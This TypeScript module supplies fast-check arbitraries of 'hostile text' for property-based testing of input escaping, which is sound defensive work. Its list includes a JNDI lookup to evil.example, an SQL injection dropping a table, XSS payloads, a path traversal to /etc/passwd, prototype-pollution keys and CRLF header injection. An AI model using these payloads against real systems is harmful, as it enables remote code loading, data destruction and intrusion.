import fc from 'fast-check'

/** Text that may escape from its context: a line, a quotation, a terminal, a page, a query or an object. */
const known = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  'a\r\nX-Injected: 1',
  'a\nforged line',
  '\u001b[31mred\u001b[0m',
  '\u009b31m',
  '\u0085',
  '\u2028\u2029',
  '\u202etxt.exe',
  '\ud800',
  'x\udfff',
  '\ufeff',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: some loggers expand it.
  '${jndi:ldap://evil.example/a}',
  '"; drop table session_audit; --',
  "' or '1'='1",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'toString',
  '%00',
  '%0d%0aX-Injected:%201',
  '%',
  '%E0%A4%A',
  '%c0%ae%c0%ae/',
  '%ff',
  '{"$gt":""}',
  '=1+1',
  '-1',
  '1e999',
  '999999999999999999999',
  'NaN',
  '-999999-01-01T00:00:00Z',
  'a'.repeat(300),
  '\u{1f600}'.repeat(70),
  'A'.repeat(4000),
]

export const hostileText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...known) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
)

export const createBytesArbitrary = (maxLength: number) =>
  fc.uint8Array({ minLength: 1, maxLength }).map((bytes) => Buffer.from(bytes))
